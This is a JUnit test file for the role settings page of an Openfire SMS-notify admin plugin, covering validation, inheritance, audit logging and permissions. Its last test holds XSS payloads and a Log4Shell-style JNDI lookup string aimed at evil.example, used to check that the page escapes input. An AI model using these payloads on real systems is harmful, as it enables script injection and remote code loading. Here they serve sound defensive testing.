package org.igniterealtime.openfire.plugins.smsnotify.admin.roles;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.IntStream;
import org.igniterealtime.openfire.plugins.smsnotify.admin.page.Html;
import org.igniterealtime.openfire.plugins.smsnotify.admin.page.Visited;
import org.igniterealtime.openfire.plugins.smsnotify.admin.page.Visited.Answered;
import org.igniterealtime.openfire.plugins.smsnotify.policy.RoleField;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.w3c.dom.Element;

/** One role: its settings, and who has it. */
class RolePageTest {

  private static final String PLACE = "(place)";

  private final Cast cast = new Cast();

  private Html page(String role) {
    return cast.one().look("name", role).html();
  }

  /** Sends the form that a page shows, with some fields changed. */
  private static Answered send(Visited visited, Html shown, Map<String, String> typed) {
    Map<String, String> fields = new TreeMap<>();
    for (String name : List.of("seen", "name", "new")) {
      shown
          .all("input")
          .filter(it -> it.getAttribute("name").equals(name))
          .findFirst()
          .ifPresent(it -> fields.put(name, it.getAttribute("value")));
    }
    RoleField.all().forEach(it -> fields.put(it.name(), shown.valueOf(it.name())));
    fields.putAll(typed);
    fields.put("do", "save");
    List<String> pairs = new ArrayList<>();
    fields.forEach((name, value) -> pairs.addAll(List.of(name, value)));
    return visited.send(pairs.toArray(String[]::new));
  }

  private Answered save(String role, Map<String, String> typed) {
    return send(cast.one(), page(role), typed);
  }

  static List<RoleField> fields() {
    return RoleField.all();
  }

  private static Element field(Html page, String name) {
    return page.all()
        .filter(it -> List.of("input", "select").contains(it.getTagName()))
        .filter(it -> it.getAttribute("name").equals(name))
        .findFirst()
        .orElseThrow(() -> new AssertionError("there is no field " + name));
  }

  @ParameterizedTest
  @MethodSource("fields")
  void everySettingThatThereIsHasAFieldThatSaysWhatCountsWhereItIsEmpty(RoleField it) {
    cast.role("Nurse", "");

    for (String role : List.of("Nurse", "default")) {
      Html page = page(role);
      Element field = field(page, it.name());
      String inherited =
          field.getTagName().equals("select")
              ? field.getElementsByTagName("option").item(0).getTextContent()
              : field.getAttribute("placeholder");
      String value = new RoleWords(cast.one().words()).value(it, it.otherwise());
      assertTrue(inherited.endsWith(value), it.name() + ": " + inherited);
      assertEquals("", page.valueOf(it.name()));
    }
  }

  @ParameterizedTest
  @CsvSource(
      useHeadersInDisplayName = true,
      delimiter = '|',
      textBlock =
          """
          setting             | typed         | stored      | shown
          sms                 | false         | false       | false
          offlineDelay        | 2 min         | 120         | 2 min
          offlineDelay        | 0             | 0           | 0 s
          quietPeriod         | 90            | 90          | 90 s
          longestHold         | 24 h          | 86400       | 24 h
          attentionSpan       | 10            | 10          | 10 s
          textOffline         | true          | true        | true
          comingBack          | cancels       | cancels     | cancels
          rooms               | never         | never       | never
          strangers           | known         | known       | known
          capPerRecipient     | 0             | 0           | 0
          capPerSender        | 10000         | 10000       | 10000
          quietHours          | 22:00–7:30    | 22:00–7:30  | 22:00–7:30
          quietHours          | OFF           | OFF         | OFF
          template            | reservation   | reservation | reservation
          privacy             | count         | count       | count
          maxSegments         | 10            | 10          | 10
          """)
  void aGoodValueIsStoredAndShown(String setting, String typed, String stored, String shown) {
    cast.role("Nurse", "").template("reservation_en", "Table reserved");

    Answered answered = save("Nurse", Map.of(setting, typed));

    assertEquals("role.jsp?name=Nurse", answered.location(), answered.body());
    assertEquals(Map.of(setting, stored), cast.stored.get("Nurse"));
    assertEquals(shown, page("Nurse").valueOf(setting));
    assertEquals(1, cast.told);
  }

  @ParameterizedTest
  @CsvSource(
      useHeadersInDisplayName = true,
      delimiter = '|',
      textBlock =
          """
          setting         | typed       | sentence
          sms             | yes         | Choose one of these.
          rooms           | some        | Choose one of these.
          template        | reservation | Choose one of these.
          offlineDelay    | soon        | This has to be a length of time from 0 s to 24 h: seconds, or for instance 90 s, 10 min or 2 h.
          longestHold     | 25 h        | This has to be a length of time from 0 s to 24 h: seconds, or for instance 90 s, 10 min or 2 h.
          attentionSpan   | 9 s         | This has to be a length of time from 10 s to 24 h: seconds, or for instance 90 s, 10 min or 2 h.
          firstPause      | -1          | This has to be a length of time from 0 s to 24 h: seconds, or for instance 90 s, 10 min or 2 h.
          capPerRecipient | 10001       | This has to be a whole number from 0 to 10000.
          maxSegments     | 0           | This has to be a whole number from 1 to 10.
          maxSegments     | 1.5         | This has to be a whole number from 1 to 10.
          quietHours      | night       | This has to be two times of day, for instance 22:00-07:30, or off.
          quietHours      | 25:00-07:00 | This has to be two times of day, for instance 22:00-07:30, or off.
          template        | long        | The template "long" is too long.
          """)
  void aBadValueIsSaidBesideItsFieldAndWhatWasTypedStays(
      String setting, String typed, String sentence) {
    cast.role("Nurse", "mms=true").template("long", "");

    for (String role : List.of("Nurse", "default")) {
      Html page = save(role, Map.of(setting, typed, "quietPeriod", "7 s")).html();

      assertEquals(sentence, page.errorOf(setting));
      assertEquals("7 s", page.valueOf("quietPeriod"));
      if (field(page, setting).getTagName().equals("input")) {
        assertEquals(typed, page.valueOf(setting));
      }
    }
    assertEquals(Map.of("mms", "true"), cast.stored.get("Nurse"));
    assertEquals(Map.of(), cast.properties);
    assertEquals(0, cast.told);
  }

  @Test
  void whatIsEmptiedIsAsInTheDefaultRoleAgain() {
    cast.role("Nurse", "mms=true; quietPeriod=7");
    Visited one = cast.one();

    send(one, page("Nurse"), Map.of("mms", "", "quietPeriod", "", "rooms", "all"));

    assertEquals(Map.of("rooms", "all"), cast.stored.get("Nurse"));
    assertEquals(
        List.of(
            "admin|changed the role \"Nurse\"|mms: true -> ; quietPeriod: 7 -> ; rooms:  -> all"),
        one.audited());
    assertTrue(one.said().contains("The role Nurse was saved"), one.said());
  }

  @Test
  void whatTheDefaultRoleIsNowStandsInOthers() {
    cast.role("Nurse", "");
    cast.properties.put("smsnotify.quietPeriod", "120");
    cast.properties.put("smsnotify.rooms", "All");

    Html page = page("Nurse");

    assertEquals("2 min", field(page, "quietPeriod").getAttribute("placeholder"));
    assertTrue(
        field(page, "rooms").getTextContent().contains("As in the default role: all"), page.text());
    assertEquals("2 min", page("default").valueOf("quietPeriod"));
    assertEquals("all", page("default").valueOf("rooms"));
  }

  @Test
  void theDefaultRoleIsThePropertiesOfTheServer() {
    cast.properties.put("smsnotify.rooms", "all");
    cast.properties.put("smsnotify.template", "long");
    Visited one = cast.one();

    send(one, page("default"), Map.of("sms", "false", "rooms", "", "firstPause", "5 min"));

    assertEquals(
        Map.of(
            "smsnotify.enabled", "false",
            "smsnotify.firstPause", "300",
            "smsnotify.template", "long"),
        cast.properties,
        "and what is wrong with the template stays until somebody changes that");
    assertEquals(
        List.of(
            "admin|changed the role \"default\"|firstPause:  -> 300; rooms: all -> ; sms:  -> false"),
        one.audited());
  }

  @Test
  void aNewRoleMayBeginAsAnother() {
    cast.role("Nurse", "mms=true; quietPeriod=7");
    Html page = cast.one().look("new", "", "like", "Nurse").html();
    assertEquals("7 s", page.valueOf("quietPeriod"));

    Answered answered = send(cast.one(), page, Map.of("name", "Night nurse"));

    assertEquals("role.jsp?name=Night+nurse", answered.location());
    assertEquals(cast.stored.get("Nurse"), cast.stored.get("Night nurse"));
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          ''      | This must not be empty.
          Default | This is the name of the default role, which there is already.
          NURSE   | There is a role of that name already.
          """)
  void aNameThatCannotBeIsRefusedBesideItsField(String name, String sentence) {
    cast.role("Nurse", "mms=true");
    Html shown = cast.one().look("new", "").html();

    Html page = send(cast.one(), shown, Map.of("name", name, "quietPeriod", "7 s")).html();

    assertEquals(sentence, page.errorOf("name"));
    assertEquals(name, page.valueOf("name"));
    assertEquals("7 s", page.valueOf("quietPeriod"));
    assertEquals(Map.of("Nurse", Map.of("mms", "true")), cast.stored);
  }

  @Test
  void whatSomebodyElseHasChangedMeanwhileIsSaidBeforeItIsReplaced() {
    cast.role("Nurse", "mms=true");
    Html shown = page("Nurse");
    cast.role("Nurse", "mms=true; quietPeriod=9").read();

    Html again = send(cast.one(), shown, Map.of("quietPeriod", "7 s")).html();

    assertTrue(
        again.textOf("sn-complaints").contains("Stored now is: Quiet period: 9 s."),
        again.textOf("sn-complaints"));
    assertEquals("7 s", again.valueOf("quietPeriod"));
    assertEquals("9", cast.stored.get("Nurse").get("quietPeriod"));

    send(cast.one(), again, Map.of());
    assertEquals("7", cast.stored.get("Nurse").get("quietPeriod"));
  }

  @Test
  void whatWasTypedForARoleThatSomebodyElseHasDeletedMayBecomeANewOne() {
    cast.role("Nurse", "mms=true");
    Html shown = page("Nurse");
    cast.stored.clear();
    cast.read();

    Html again = send(cast.one(), shown, Map.of("quietPeriod", "7 s")).html();
    assertTrue(again.textOf("sn-complaints").contains("deleted this role"));

    send(cast.one(), again, Map.of());
    assertEquals(Map.of("mms", "true", "quietPeriod", "7"), cast.stored.get("Nurse"));
  }

  @Test
  void whileNothingCanBeStoredWhatWasTypedStays() {
    cast.role("Nurse", "").isAway = true;

    for (String role : List.of("Nurse", "default")) {
      Html page = save(role, Map.of("quietPeriod", "7 s")).html();

      assertTrue(page.textOf("sn-complaints").contains("could not be stored right now"));
      assertEquals("7 s", page.valueOf("quietPeriod"));
    }
  }

  @Test
  void aValueThatCannotBeUsedStaysToBeSeen() {
    cast.role("Nurse", "rooms=some; template=gone; quietPeriod=soon").read();

    Html page = page("Nurse");

    assertEquals("some", page.valueOf("rooms"));
    assertEquals("gone", page.valueOf("template"));
    assertEquals("soon", page.valueOf("quietPeriod"));
    assertTrue(page.text().contains("some (cannot be used)"), page.text());
    assertTrue(page.text().contains("The setting rooms of the role \"Nurse\" is not"), page.text());
  }

  @Test
  void aRoleThatIsNotThereIsNoPage() {
    assertEquals(404, cast.one().look("name", "Nurse").status());
    assertEquals(404, cast.one().look().status());
  }

  @Test
  void whoHasARoleIsSaidWithHowTheyCameToIt() {
    cast.role("Nurse", "")
        .role("Guest", "")
        .person("tybalt", "nurse")
        .person("romeo", "Guest")
        .group("nurses", "juliet", "romeo")
        .rule("nurses", "Nurse")
        .rule("gone", "Nurse");

    Html page = page("nurse");

    assertEquals(
        List.of(
            "Settings",
            "Who has this role",
            "Duplicate",
            "tybalt@example.org Take it away",
            "juliet@example.org",
            "romeo@example.org has the role Guest"),
        page.texts("li"));
    assertTrue(page.text().contains("nurses (2 people) by rule 1"), page.text());
    assertTrue(page.text().contains("gone by rule 2 There is no group of that name."));
    assertTrue(
        page.all("a")
            .anyMatch(
                it -> it.getAttribute("href").equals("person.jsp?user=tybalt%40example.org")));
  }

  @Test
  void ofManyPeopleTheFirstAreNamed() {
    cast.role("Nurse", "").rule("nurses", "Nurse");
    cast.group("nurses", IntStream.range(0, 60).mapToObj(i -> "n" + i).toArray(String[]::new));
    IntStream.range(0, 203).forEach(i -> cast.person("p" + i, "Nurse"));

    String text = page("Nurse").text();

    assertTrue(text.contains("nurses (60 people)"), text);
    assertTrue(text.contains("and 10 more"), text);
    assertTrue(text.contains("and 3 more"), text);
  }

  @Test
  void aPersonIsGivenTheRoleAndLosesItAgain() {
    cast.role("Nurse", "").role("Guest", "").person("romeo", "Guest");
    Visited one = cast.one();

    Answered answered = one.send("do", "give", "name", "Nurse", "user", "romeo");

    assertEquals("role.jsp?name=Nurse#sn-members", answered.location());
    assertEquals("Nurse", cast.given.get("romeo@example.org"));
    assertEquals(
        List.of("admin|gave romeo@example.org a role|smsnotify.role: \"Guest\" -> \"Nurse\""),
        one.audited());

    one.send("do", "put", "name", "Nurse", "whom", "romeo@example.org", "of-role", "");
    assertFalse(cast.given.containsKey("romeo@example.org"));
  }

  @ParameterizedTest
  @CsvSource({"'', This must not be empty.", "nobody, There is no such account on this server."})
  void whomNobodyKnowsIsGivenNothing(String user, String sentence) {
    cast.role("Nurse", "");

    Html page = cast.one().send("do", "give", "name", "Nurse", "user", user).html();

    assertEquals(sentence, page.errorOf("user"));
    assertEquals(user, page.valueOf("user"));
    assertEquals(Map.of(), cast.given);
  }

  @Test
  void whereADirectoryKeepsUserPropertiesThePageSaysSo() {
    cast.role("Nurse", "").isDirectory = true;

    String text = page("Nurse").text();

    assertTrue(text.contains("user properties are kept in a directory"), text);
    assertTrue(text.contains("cannot be changed here"), text);
  }

  @Test
  void whileNobodyCanTellWhoHasItTheSettingsAreShown() {
    cast.role("Nurse", "quietPeriod=7").holdersAreAway = true;

    Html page = page("Nurse");

    assertEquals("7 s", page.valueOf("quietPeriod"));
    assertTrue(page.text().contains("Who has it cannot be told right now"), page.text());
  }

  @Test
  void whoMayOnlyLookSeesTheSettingsAndNoButtons() {
    cast.role("Nurse", "quietPeriod=7").person("tybalt", "Nurse");
    Visited one = cast.one().whoMayOnlyLook();

    Html page = one.look("name", "Nurse").html();

    assertEquals("7 s", page.valueOf("quietPeriod"));
    assertEquals(0, page.all("button").count());
    assertEquals(403, one.send("do", "save", "name", "Nurse").status());
  }

  @Test
  void whatNobodyKnowsIsNoPage() {
    assertEquals(404, cast.one().send("do", "dance", "name", "default").status());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "' onmouseover='alert(1)",
        "{{words.title}}{{{words.title}}}",
        "&lt;b&gt; &amp; &#60;",
        "$1 \\1 {0} ${jndi:ldap://evil.example}",
        "<!-- ]]> -->"
      })
  void whateverPeopleCanTypeIsShownAsTheyTypedIt(String hostile) {
    Html plain = full(PLACE).one().look("name", PLACE).html();

    Html page = full(hostile).one().look("name", hostile).html();

    assertEquals(plain.elementNames(), page.elementNames(), "no element comes of it");
    assertEquals(plain.attributeNames(), page.attributeNames(), "nor any attribute");
    assertEquals(plain.text().replace(PLACE, hostile), page.text());
  }

  private static Cast full(String any) {
    return new Cast()
        .role(any, Map.of("template", any, "quietPeriod", any, "quietHours", any))
        .template(any.replace("_", ""), any)
        .rule(any, any)
        .group(any, any)
        .person(any, any.toUpperCase(Locale.ROOT))
        .read();
  }
}
